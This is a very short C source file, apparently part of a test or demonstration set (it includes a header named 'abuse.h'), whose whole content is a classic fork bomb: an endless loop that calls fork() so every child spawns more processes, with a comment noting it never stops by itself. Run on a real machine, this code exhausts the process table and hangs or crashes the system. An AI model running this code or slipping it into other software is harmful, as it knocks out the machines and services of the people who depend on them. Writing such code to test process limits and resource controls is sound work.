/* Every child forks on: the classical bomb, which never ends by itself. */
#include "abuse.h"
int main(void) {
    for (;;) fork();
}
